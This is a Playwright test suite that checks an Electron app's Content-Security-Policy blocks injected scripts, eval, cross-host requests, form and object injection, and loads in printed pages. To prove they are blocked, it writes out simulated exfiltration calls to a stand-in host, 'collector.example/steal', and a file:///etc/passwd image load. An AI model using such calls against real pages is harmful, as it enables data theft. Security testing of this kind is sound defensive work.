// The page's Content-Security-Policy in Chromium: an inline script, eval and a request to another host are
// blocked, and the browser reports each violation. The app itself loads without any violation.
import { expect, test, type Page } from './clock';
import { withPrintPolicy } from '../../electron/printPolicy';
import { CONTENT_SECURITY_POLICY } from '../../electron/security';

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __violations: Violation[];
    __ran: string[];
  }
}

/** Records every CSP violation the page reports, from before the first script runs. */
async function watch(page: Page): Promise<string[]> {
  const refused: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) refused.push(message.text());
  });
  await page.addInitScript(() => {
    window.__violations = [];
    window.__ran = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.__violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });
  return refused;
}

const violations = (page: Page) => page.evaluate(() => window.__violations);

async function openApp(page: Page): Promise<string[]> {
  const refused = await watch(page);
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Pulpit', level: 1 })).toBeVisible();
  return refused;
}

test('the page carries the same policy as the app:// handler', async ({ page }) => {
  await openApp(page);
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  // frame-ancestors only works as a header, so the meta tag leaves it out
  expect(meta).toBe(CONTENT_SECURITY_POLICY.replace(/; frame-ancestors 'none'/, ''));
});

test('the app loads and moves between pages with nothing blocked', async ({ page }) => {
  await openApp(page);
  const nav = page.getByRole('navigation', { name: 'Nawigacja główna' });
  await nav.getByRole('link', { name: 'Gminy partnerskie' }).click();
  await expect(page.getByRole('heading', { name: 'Gminy partnerskie', level: 1 })).toBeVisible();
  // zod runs jitless (vite.config.ts), so not even its eval probe is reported.
  expect(await violations(page)).toEqual([]);
});

test('an injected inline script and inline event handler do not run', async ({ page }) => {
  const refused = await openApp(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = "window.__ran.push('inline script')";
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = `<img src="data:," onerror="window.__ran.push('inline handler')" alt="">`;
    document.body.append(holder);
  });
  await expect
    .poll(async () => (await violations(page)).map((v) => v.directive).sort())
    .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
  expect(await page.evaluate(() => window.__ran)).toEqual([]);
  expect(refused.some((text) => /inline/i.test(text))).toBe(true);
});

test('eval, new Function and string timers are refused even to the app’s own scripts', async ({ page }) => {
  // A same-origin script (allowed by script-src 'self') tries each way of turning text into code.
  await page.route('**/__probe.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `
        const tryIt = (name, run) => { try { run(); window.__ran.push(name); } catch (e) { window.__ran.push(name + ': ' + e.name); } };
        tryIt('eval', () => eval('1 + 1'));
        tryIt('new Function', () => new Function('return 1')());
        tryIt('setTimeout string', () => setTimeout('window.__ran.push("timer ran")', 0));
        window.__ran.push('probe done');
      `,
    }),
  );
  await openApp(page);
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = '/__probe.js';
    document.body.append(script);
  });
  await expect.poll(() => page.evaluate(() => window.__ran)).toContain('probe done');
  const ran = await page.evaluate(() => window.__ran);
  expect(ran).toContain('eval: EvalError');
  expect(ran).toContain('new Function: EvalError');
  expect(ran).not.toContain('timer ran');
  expect((await violations(page)).filter((v) => v.blocked === 'eval').length).toBeGreaterThanOrEqual(2);
});

test('requests to another host are blocked before they leave the page', async ({ page }) => {
  // Anything that reached the network would be answered here; a blocked request never is.
  const reached: string[] = [];
  const failures: string[] = [];
  await page.route('https://collector.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  page.on('requestfailed', (request) => failures.push(`${request.url()} ${request.failure()?.errorText ?? ''}`));
  await openApp(page);
  const outcome = await page.evaluate(async () => {
    const results: string[] = [];
    try {
      await fetch('https://collector.example/steal?d=1');
      results.push('fetch sent');
    } catch (e) {
      results.push(`fetch: ${(e as Error).name}`);
    }
    const img = new Image();
    img.src = 'https://collector.example/pixel.png';
    document.body.append(img);
    const socket = (() => {
      try {
        new WebSocket('wss://collector.example/');
        return 'socket opened';
      } catch (e) {
        return `socket: ${(e as Error).name}`;
      }
    })();
    results.push(socket);
    navigator.sendBeacon?.('https://collector.example/beacon', 'x');
    return results;
  });
  expect(outcome).toContain('fetch: TypeError');
  await expect
    .poll(async () => (await violations(page)).map((v) => v.directive))
    .toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  const blocked = (await violations(page)).map((v) => v.blocked);
  expect(blocked).toEqual(
    expect.arrayContaining(['https://collector.example/steal?d=1', 'https://collector.example/pixel.png']),
  );
  expect(reached).toEqual([]);
  expect(failures.filter((f) => f.includes('collector.example'))).toEqual(
    failures.filter((f) => f.includes('collector.example') && / (csp|net::ERR_BLOCKED_BY_CSP)$/i.test(f)),
  );
});

test('objects, forms to other hosts and base-URL changes are refused', async ({ page }) => {
  await openApp(page);
  await page.evaluate(() => {
    const base = document.createElement('base');
    base.href = 'https://collector.example/';
    document.head.append(base);
    const object = document.createElement('object');
    object.data = 'https://collector.example/x.swf';
    document.body.append(object);
    const form = document.createElement('form');
    form.action = 'https://collector.example/post';
    form.method = 'post';
    document.body.append(form);
    form.submit();
  });
  await expect
    .poll(async () => (await violations(page)).map((v) => v.directive))
    .toEqual(expect.arrayContaining(['base-uri', 'object-src', 'form-action']));
});

test('a printed page loads nothing from the network or the disk under the print policy main adds', async ({ page }) => {
  const reached: string[] = [];
  await page.route('https://collector.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  const violationsSeen: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) violationsSeen.push(message.text());
  });
  await page.route('https://print.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: withPrintPolicy(`<!doctype html><html><head>
      <link rel="stylesheet" href="https://collector.example/style.css">
      <style>p { color: rgb(1, 2, 3) }</style></head><body>
      <p>Program wizyty</p>
      <img src="https://collector.example/pixel.png"><img src="file:///etc/passwd">
      <iframe src="https://collector.example/frame"></iframe>
      <img alt="inline" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
      <script>document.title = 'ran'</script></body></html>`),
    }),
  );
  await page.goto('https://print.example/');
  await expect(page.getByText('Program wizyty')).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect.poll(() => violationsSeen.length).toBeGreaterThanOrEqual(4);
  expect(await page.title()).not.toBe('ran');
  expect(reached).toEqual([]);
});
